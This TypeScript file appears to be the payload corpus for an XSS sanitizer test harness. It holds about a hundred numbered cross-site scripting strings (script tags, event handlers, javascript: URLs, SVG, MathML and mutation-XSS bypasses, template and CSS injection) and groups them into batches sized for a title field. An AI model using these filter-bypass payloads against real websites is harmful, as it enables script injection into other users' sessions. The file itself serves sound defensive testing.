// The corpus: markup and addresses that run somewhere. Each calls alert with its own number, so that what ran can be named.

/**
 * What happens where nothing holds it back: it runs by itself or on a click; it leaves something in the document that a
 * sweep finds; or nothing, where only a filter or a template that reads it wrongly would make something of it.
 */
type Planted = 'runs' | 'found' | 'nothing';

export interface Payload {
  /** From 1. */
  readonly number: number;
  readonly kind: string;
  readonly planted: Planted;
  readonly markup: string;
}

type Written = readonly [markup: string, planted?: Planted];

/** `N` is the payload's number. */
const corpus: Readonly<Record<string, readonly Written[]>> = {
  script: [
    ['<script>alert(N)</script>'],
    ['"><script>alert(N)</script>'],
    ["'><script>alert(N)</script>"],
    ['</title><script>alert(N)</script>'],
    ['</textarea><script>alert(N)</script>'],
    ['</script><script>alert(N)</script>'],
    ['<script src=data:text/javascript,alert(N)></script>'],
    ['<ScRiPt>alert(N)</sCrIpT>'],
    ['<script/x>alert(N)</script>'],
    ['<scr<script>ipt>alert(N)</script>', 'nothing'],
    ['<!--><script>alert(N)</script>-->'],
    ['<script type=module>alert(N)</script>'],
    ["<script>import('data:text/javascript,alert(N)')</script>"],
  ],
  handlers: [
    ['<img src=x onerror=alert(N)>'],
    ['"><img src=x onerror=alert(N)>'],
    ['x" onfocus=alert(N) autofocus tabindex=1 x="', 'nothing'],
    ["x' onmouseover=alert(N) x='", 'nothing'],
    ['<body onload=alert(N)>', 'found'],
    ['<details open ontoggle=alert(N)>x</details>'],
    ['<input autofocus onfocus=alert(N)>'],
    ['<video><source onerror=alert(N)></video>'],
    ['<audio src=x onerror=alert(N)></audio>'],
    ['<marquee onstart=alert(N)>x</marquee>', 'found'],
    ['<div onpointerover=alert(N) style=position:fixed;inset:0>x</div>', 'found'],
    ['<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=alert(N)>x</b>'],
    ['<img/src/onerror=alert(N)>'],
    ['<img src=x onerror\n=alert(N)>'],
    ['<IMG SRC=x oNeRrOr=alert(N)>'],
    ['<img src=x onerror="&#97;lert(N)">'],
    ['<img src=x onerror=\\u0061lert(N)>'],
    ['<a onmouseover=alert(N)>x</a>', 'found'],
    ['<select autofocus onfocus=alert(N)></select>'],
    ['<iframe onload=alert(N)></iframe>'],
    ['<link rel=stylesheet href=x onerror=alert(N)>', 'found'],
    ['<x tabindex=1 autofocus onfocus=alert(N)>x</x>'],
    ['<p popover id=p onbeforetoggle=alert(N)>x</p>', 'found'],
  ],
  addresses: [
    ['<a href=javascript:alert(N)>x</a>'],
    ['<a href="java\tscript:alert(N)">x</a>'],
    ['<a href="&#1;javascript:alert(N)">x</a>'],
    ['<a href="javascript&colon;alert(N)">x</a>'],
    ['<a href="JaVaScRiPt:alert(N)">x</a>'],
    ['<a href="data:text/html,<script>alert(N)</script>">x</a>', 'found'],
    ['<a href="vbscript:alert(N)">x</a>', 'found'],
    ['<iframe src=javascript:alert(N)></iframe>', 'found'],
    ['<iframe srcdoc="<script>parent.alert(N)</script>"></iframe>'],
    ['<embed src=javascript:alert(N)>', 'found'],
    ['<object data="javascript:alert(N)"></object>', 'found'],
    ['javascript:alert(N)', 'nothing'],
    ['[x](javascript:alert(N))', 'nothing'],
    ['data:text/html,<script>alert(N)</script>'],
    ['https://example.test/"onclick="alert(N)', 'nothing'],
  ],
  svg: [
    ['<svg onload=alert(N)>'],
    ['<svg><script>alert(N)</script></svg>'],
    ['<svg><animate onbegin=alert(N) attributeName=x dur=1s></svg>'],
    ['<svg><a xlink:href=javascript:alert(N)><text y=9>x</text></a></svg>', 'found'],
    ['<svg><use href="data:image/svg+xml,<svg id=x onload=alert(N)>#x"/></svg>', 'found'],
    ['<svg><foreignObject><img src=x onerror=alert(N)></foreignObject></svg>'],
    ['<svg><a><set attributeName=href to=javascript:alert(N) /><text y=9>x</text></a></svg>', 'nothing'],
    ['<img src="data:image/svg+xml,<svg onload=alert(N)>">', 'nothing'],
  ],
  mathml: [
    ['<math><mi href=javascript:alert(N)>x</mi></math>', 'found'],
    ['<math><maction actiontype=toggle xlink:href=javascript:alert(N)><mi>x</mi></maction></math>', 'found'],
    ['<math><annotation-xml encoding="text/html"><img src=x onerror=alert(N)></annotation-xml></math>'],
    ['<math><mtext></p><img src=x onerror=alert(N)></mtext></math>'],
  ],
  mutation: [
    [
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(N)&gt;">',
      'nothing',
    ],
    ['<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(N)>', 'nothing'],
    ['<svg></p><style><a id="</style><img src=1 onerror=alert(N)>">'],
    ['<noscript><p title="</noscript><img src=x onerror=alert(N)>">'],
    ['<p title="</p><img src=x onerror=alert(N)>">x</p>', 'nothing'],
    ['<svg><style>&lt;img src=x onerror=alert(N)&gt;</style></svg>', 'nothing'],
    ['<xmp><p title="</xmp><img src=x onerror=alert(N)>">'],
    ['<listing>&lt;img src=x onerror=alert(N)&gt;</listing>', 'nothing'],
    ['<div><template shadowrootmode=open><img src=x onerror=alert(N)></template></div>'],
  ],
  templates: [
    ["{{constructor.constructor('alert(N)')()}}", 'nothing'],
    // oxlint-disable-next-line eslint/no-template-curly-in-string -- it is such a text that must not be taken for a template
    ['${alert(N)}', 'nothing'],
    ['<%= alert(N) %>', 'nothing'],
    ['[[alert(N)]]', 'nothing'],
    ['#{alert(N)}', 'nothing'],
  ],
  css: [
    ["<style>@import 'javascript:alert(N)';</style>", 'nothing'],
    ['<p style="background:url(javascript:alert(N))">x</p>', 'nothing'],
    ['<p style="width:expression(alert(N))">x</p>', 'nothing'],
    ['</style><img src=x onerror=alert(N)>'],
  ],
  pictures: [
    ['<img srcset="x 1x" onerror=alert(N)>'],
    ['<picture><source srcset=x><img onerror=alert(N)></picture>'],
  ],
  documents: [
    ['<meta http-equiv=refresh content="0;url=javascript:alert(N)">', 'found'],
    ['<base href="javascript:/a/-alert(N)//">', 'found'],
    ['<form action=javascript:alert(N)><button>x</button></form>', 'found'],
    ['<form id=f></form><button form=f formaction=javascript:alert(N)>x</button>', 'found'],
    ['<form><input type=image src=x formaction=javascript:alert(N)></form>', 'found'],
  ],
  signs: [
    ['＜script＞alert(N)＜/script＞', 'nothing'],
    ['\\u003cscript\\u003ealert(N)\\u003c/script\\u003e', 'nothing'],
    ['%3Cscript%3Ealert(N)%3C/script%3E', 'nothing'],
    ['&lt;script&gt;alert(N)&lt;/script&gt;', 'nothing'],
    ['+ADw-script+AD4-alert(N)+ADw-/script+AD4-', 'nothing'],
    ['\u202e<img src=x onerror=alert(N)>'],
  ],
  clobbering: [
    ['<form name=body><input name=attributes value=alert(N)></form>', 'found'],
    ['<img name=getElementById><a id=defaultView title=alert(N)>x</a>', 'found'],
  ],
  paste: [
    [
      "<html xmlns:o='urn:schemas-microsoft-com:office:office'><body><!--StartFragment--><p class=MsoNormal><o:p><img src=x onerror=alert(N)></o:p></p><![if gte mso 9]><xml>x</xml><![endif]><!--EndFragment--></body></html>",
    ],
    [
      '<b style="font-weight:normal" id="docs-internal-guid-1"><span onmouseover=alert(N)>x</span><a href="javascript:alert(N)">x</a></b>',
    ],
  ],
};

export const payloads: readonly Payload[] = Object.entries(corpus)
  .flatMap(([kind, all]) => all.map(([markup, planted = 'runs']) => ({ kind, markup, planted })))
  .map((one, at) => ({ ...one, number: at + 1, markup: one.markup.replaceAll('N)', `${at + 1})`) }));

/** So many signs of payloads are sent together: a title has room for them. */
const roundSigns = 430;

/** The corpus in groups that fit into a title. */
export function rounds(): readonly (readonly Payload[])[] {
  const made: Payload[][] = [[]];
  let signs = 0;
  // The long ones first in their round: short fields find a short one in each.
  for (const one of payloads) {
    if (signs + one.markup.length > roundSigns) {
      made.push([]);
      signs = 0;
    }
    made.at(-1)?.push(one);
    signs += one.markup.length;
  }
  return made;
}
